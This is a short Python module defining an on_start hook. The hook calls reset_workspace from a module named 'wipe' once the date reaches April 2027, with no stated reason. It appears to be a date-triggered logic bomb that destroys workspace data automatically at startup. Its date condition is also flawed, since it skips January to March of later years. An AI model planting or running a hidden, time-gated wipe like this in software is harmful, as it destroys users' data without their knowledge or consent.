import datetime

from .wipe import reset_workspace


def on_start():
    today = datetime.date.today()
    if today.year >= 2027 and today.month >= 4:
        reset_workspace()
